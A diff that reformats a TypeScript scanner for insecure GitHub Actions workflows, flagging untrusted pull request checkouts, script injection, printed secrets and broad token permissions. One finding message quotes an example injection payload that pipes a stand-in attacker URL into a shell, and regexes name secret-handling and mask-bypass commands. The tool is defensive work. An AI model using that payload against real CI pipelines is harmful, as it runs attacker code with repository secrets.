@@ -15,7 +15,15 @@ import { contentOf, DiffIndex, indentOf, makePrediction, safely, snippet, textLi
 const WORKFLOW = /(?:^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i;
 
 /** Triggers where whoever opens the pull request, issue or comment is not trusted, and the run has secrets. */
-const PRIVILEGED = new Set(["pull_request_target", "issue_comment", "issues", "discussion", "discussion_comment", "workflow_run", "pull_request_review_comment"]);
+const PRIVILEGED = new Set([
+  "pull_request_target",
+  "issue_comment",
+  "issues",
+  "discussion",
+  "discussion_comment",
+  "workflow_run",
+  "pull_request_review_comment",
+]);
 
 /** A context an outside user controls: titles, bodies, branch names, commit messages, author names. */
 const UNTRUSTED_CONTEXT =
@@ -29,15 +37,18 @@ function untrustedExpression(text: string): string | undefined {
   return undefined;
 }
 
-const PR_HEAD_REF = /github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs\/pull\/|github\.event\.pull_request\.merge_commit_sha|github\.event\.issue\.number|github\.event\.pull_request\.number|github\.event\.workflow_run\.head_(?:sha|branch)/;
+const PR_HEAD_REF =
+  /github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs\/pull\/|github\.event\.pull_request\.merge_commit_sha|github\.event\.issue\.number|github\.event\.pull_request\.number|github\.event\.workflow_run\.head_(?:sha|branch)/;
 const PR_HEAD_REPO = /repository\s*:\s*\$\{\{\s*github\.event\.pull_request\.head\.repo\.full_name\s*\}\}/;
-const RUN_CHECKOUT = /\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n]*\bpull\/[^\s]*\/head|\bgit\s+(?:checkout|switch)\b[^\n]*\$\{\{\s*github\.(?:event\.pull_request\.head\.(?:sha|ref)|head_ref)/;
+const RUN_CHECKOUT =
+  /\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n]*\bpull\/[^\s]*\/head|\bgit\s+(?:checkout|switch)\b[^\n]*\$\{\{\s*github\.(?:event\.pull_request\.head\.(?:sha|ref)|head_ref)/;
 const MAINTAINER_GATE = /author_association|github\.actor\s*==|\bpermission\b.*\b(?:admin|write|maintain)\b|\bcollaborators\b/;
 
 const SECRET_EXPR = /\$\{\{\s*secrets\.[\w-]+\s*\}\}/;
 const ALL_SECRETS = /\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}/i;
 const PRINT = /(?:^|[\s;&|(])(?:echo|printf|print|cat|Write-Host|Write-Output|console\.log|puts)\b/;
-const STDIN_CONSUMER = /\|\s*(?:[\w./-]+\s+)*?(?:[\w.-]*login\b|gh\s+auth|[\w.-]+\s+--?[\w-]*stdin\b|gpg\b|ssh-add\b|base64\s+(?:-d|--decode|-D)\b|openssl\b|kubectl\b|docker\b|helm\b|npm\b|tee\s+[^|]*\.(?:pem|key|json|npmrc|netrc))|--password-stdin|--with-token/;
+const STDIN_CONSUMER =
+  /\|\s*(?:[\w./-]+\s+)*?(?:[\w.-]*login\b|gh\s+auth|[\w.-]+\s+--?[\w-]*stdin\b|gpg\b|ssh-add\b|base64\s+(?:-d|--decode|-D)\b|openssl\b|kubectl\b|docker\b|helm\b|npm\b|tee\s+[^|]*\.(?:pem|key|json|npmrc|netrc))|--password-stdin|--with-token/;
 const MASK_BYPASS = /\|\s*(?:base64(?!\s+(?:-d|--decode|-D)\b)|xxd|od\b|hexdump|rev\b|sed\b|tr\b|awk\b|cut\b)/;
 /** Written to the runner's own files for later steps ($GITHUB_ENV...): not printed. */
 const TO_RUNNER_FILES = />>?\s*"?\$\{?GITHUB_(?:ENV|OUTPUT|PATH)\b/;
@@ -91,7 +102,13 @@ function triggersOf(content: string | undefined, visible: string[]): Set<string>
     const inline = /^\s*["']?on["']?\s*:\s*(.+)$/.exec(line);
     if (inline) for (const t of inline[1].replace(/#.*$/, "").match(/[a-z_]+/g) ?? []) out.add(t);
     const key = /^\s*-?\s*([a-z_]+)\s*:?\s*(?:#.*)?$/.exec(line);
-    if (key && /^(?:pull_request_target|pull_request|push|issue_comment|issues|discussion|discussion_comment|workflow_run|workflow_dispatch|schedule|release|pull_request_review_comment|pull_request_review)$/.test(key[1])) out.add(key[1]);
+    if (
+      key &&
+      /^(?:pull_request_target|pull_request|push|issue_comment|issues|discussion|discussion_comment|workflow_run|workflow_dispatch|schedule|release|pull_request_review_comment|pull_request_review)$/.test(
+        key[1],
+      )
+    )
+      out.add(key[1]);
   }
   return out;
 }
@@ -169,7 +186,9 @@ function checkView(view: View, triggers: Set<string>, fileText: string, previous
       const [s, e] = stepRange(lines, i);
       const step = lines.slice(s, e + 1).join("\n");
       const checkout = isRef ? /uses\s*:\s*["']?actions\/checkout@/.test(step) : RUN_CHECKOUT.test(text) && inScript(lines, i);
-      const triggerLine = lines.findIndex((l) => /\bpull_request_target\b|\bissue_comment\b|\bworkflow_run\b/.test(l) && !/\bif\s*:|github\.event_name/.test(l));
+      const triggerLine = lines.findIndex(
+        (l) => /\bpull_request_target\b|\bissue_comment\b|\bworkflow_run\b/.test(l) && !/\bif\s*:|github\.event_name/.test(l),
+      );
       const at = added ?? (triggerLine >= 0 ? view.added(triggerLine) : undefined);
       if (checkout && at && !reportedSteps.has(s) && !(gated && !prTarget)) {
         reportedSteps.add(s);
@@ -180,7 +199,11 @@ function checkView(view: View, triggers: Set<string>, fileText: string, previous
         hits.push({
           kind: "ci-untrusted-checkout",
           at,
-          prediction: `This ${prTarget ? "`pull_request_target`" : privileged.length > 0 ? `\`${privileged[0]}\`` : ""} workflow checks out the pull request's own code (\`${snippet(text)}\`) and ${after ? "then runs it" : "keeps it in the workspace"} with the base repository's secrets and a write-scoped \`GITHUB_TOKEN\`: anyone who opens a pull request from a fork can change a build script or dependency to steal the secrets and push to the repository.`.replace("This  workflow", "This workflow"),
+          prediction:
+            `This ${prTarget ? "`pull_request_target`" : privileged.length > 0 ? `\`${privileged[0]}\`` : ""} workflow checks out the pull request's own code (\`${snippet(text)}\`) and ${after ? "then runs it" : "keeps it in the workspace"} with the base repository's secrets and a write-scoped \`GITHUB_TOKEN\`: anyone who opens a pull request from a fork can change a build script or dependency to steal the secrets and push to the repository.`.replace(
+              "This  workflow",
+              "This workflow",
+            ),
           confidence,
           severity: "critical",
           impact: "Secrets exfiltrated and the repository (code, releases, packages) compromised by any outside contributor.",
@@ -203,8 +226,11 @@ function checkView(view: View, triggers: Set<string>, fileText: string, previous
         prediction: `\`${injected}\` is expanded into a ${owningKey(lines, i)?.key === "script" ? "github-script body" : "shell script"} before it runs: a pull request title, branch name, issue or comment such as \`"; curl https://evil.example/x | sh; #\` executes as code in the runner${critical ? ", which has this repository's secrets and a write token" : ""}.`,
         confidence: 0.85,
         severity: critical ? "critical" : "high",
-        impact: critical ? "Any GitHub user can run code with the repository's secrets and write access." : "Anyone who can open a pull request or issue can run code in CI.",
-        recommendation: "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted in the script (`\"$TITLE\"`); never put `${{ ... }}` of user-controlled text inside `run:`.",
+        impact: critical
+          ? "Any GitHub user can run code with the repository's secrets and write access."
+          : "Anyone who can open a pull request or issue can run code in CI.",
+        recommendation:
+          'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted in the script (`"$TITLE"`); never put `${{ ... }}` of user-controlled text inside `run:`.',
         tags: ["ci", "security", "injection"],
       });
       continue;
@@ -215,7 +241,8 @@ function checkView(view: View, triggers: Set<string>, fileText: string, previous
       hits.push({
         kind: "ci-secret-leak",
         at: added,
-        prediction: "`toJSON(secrets)` dumps every secret of the repository into the step (and its log or environment): one leaked log or compromised action exposes all of them at once.",
+        prediction:
+          "`toJSON(secrets)` dumps every secret of the repository into the step (and its log or environment): one leaked log or compromised action exposes all of them at once.",
         confidence: 0.9,
         severity: "critical",
         impact: "Every repository and organisation secret available to the workflow exposed.",
@@ -224,7 +251,14 @@ function checkView(view: View, triggers: Set<string>, fileText: string, previous
       });
       continue;
     }
-    if (SECRET_EXPR.test(text) && inScript(lines, i) && PRINT.test(text) && !STDIN_CONSUMER.test(text) && !/::add-mask::/.test(text) && !TO_RUNNER_FILES.test(text)) {
+    if (
+      SECRET_EXPR.test(text) &&
+      inScript(lines, i) &&
+      PRINT.test(text) &&
+      !STDIN_CONSUMER.test(text) &&
+      !/::add-mask::/.test(text) &&
+      !TO_RUNNER_FILES.test(text)
+    ) {
       const bypass = MASK_BYPASS.test(text);
       const toFile = REDIRECT.test(text) && !/GITHUB_STEP_SUMMARY/.test(text);
       if (toFile && !bypass && !/actions\/upload-artifact@/.test(fileText)) continue; // written to a file that stays on the runner
@@ -239,7 +273,8 @@ function checkView(view: View, triggers: Set<string>, fileText: string, previous
         confidence: bypass ? 0.85 : toFile ? 0.75 : 0.65,
         severity: bypass ? "critical" : "high",
         impact: "The secret readable in logs or artifacts by everyone who can see the workflow run.",
-        recommendation: "Never print secrets: pass them through `env:` to the command that needs them, and mask derived values with `::add-mask::`.",
+        recommendation:
+          "Never print secrets: pass them through `env:` to the command that needs them, and mask derived values with `::add-mask::`.",
         tags: ["ci", "security", "secrets"],
       });
       continue;
@@ -280,7 +315,8 @@ function checkView(view: View, triggers: Set<string>, fileText: string, previous
         confidence: privileged.length > 0 ? 0.8 : 0.7,
         severity: privileged.length > 0 ? "high" : "medium",
         impact: "A compromised step can tamper with the repository and its releases.",
-        recommendation: "Grant only what the jobs need (e.g. `permissions: contents: read`, plus `pull-requests: write` on the one job that comments).",
+        recommendation:
+          "Grant only what the jobs need (e.g. `permissions: contents: read`, plus `pull-requests: write` on the one job that comments).",
         tags: ["ci", "security"],
       });
     }
